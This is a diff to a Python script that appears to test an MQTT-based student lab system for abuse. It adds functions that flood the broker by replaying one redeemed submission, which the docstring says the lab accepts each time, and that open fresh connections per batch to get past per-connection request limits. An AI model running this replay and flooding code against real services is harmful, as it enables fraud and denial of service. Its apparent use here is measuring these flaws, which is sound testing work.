@@ -16,6 +16,7 @@ CAPACITY = 10_000
 ATTACKER_NAME = "Attacker"  # in all its solutions
 GUESSES_AT_ONCE = 20  # of a connection
 WINDOW = 64  # requests in progress
+ASKED_AT_ONCE = 20  # requests of a connection
 SILENCE = 0.2  # seconds after which the attacker asks again
 # The numbers of the students for whom the attacker asks, as the protocol of the sheet permits.
 SOME, MANY = range(30), range(3_000)
@@ -108,6 +109,40 @@ def take_codes(dnis, addresses):
                 elif topic == VERDICTS:
                     figures["verdicts ACCEPTED heard"] += text.endswith(";ACCEPTED")
     return attack
+
+
+def resubmit(target, deadline, figures):
+    """Redeems a code, and sends the same submission again and again, which the lab accepts each time."""
+    client, code = RawClient(target), ""
+    client.send(mqtt_packets.subscribe([CODES, VERDICTS]) + mqtt_packets.publish(REQUESTS, OWN_DNI))
+    while not code and time.time() < deadline:
+        code = next((text for topic, text in published(client.read(0.1)) if topic == CODES), "")
+    submission = mqtt_packets.publish(SOLUTIONS, f"{code};{ATTACKER_NAME};own@example.org")
+    left = b""
+    while time.time() < deadline:
+        figures["sent"] += 0 if left else WINDOW
+        packets, left = client.pump(left or WINDOW * submission, 0.02)
+        figures["verdicts heard"] += sum(topic == VERDICTS and text.startswith(code)
+                                         for topic, text in published(packets))
+
+
+def ask_anew(target, deadline, figures):
+    """A new connection for each few requests."""
+    requests = b"".join(mqtt_packets.publish(REQUESTS, OWN_DNI, 1, number) for number in range(1, ASKED_AT_ONCE + 1))
+    while time.time() < deadline:
+        try:
+            client = RawClient(target)
+            client.send(requests)
+            end = time.time() + SILENCE
+            acknowledged = 0
+            while acknowledged < ASKED_AT_ONCE and time.time() < end:
+                acknowledged += sum(kind == mqtt_packets.PUBACK for kind, _ in client.read(0.02))
+            figures["acknowledged"] += acknowledged
+            figures["connections"] += 1
+            client.close()
+        except OSError:
+            figures["connections lost"] += 1
+            time.sleep(0.02)
 
 
 def published(packets):
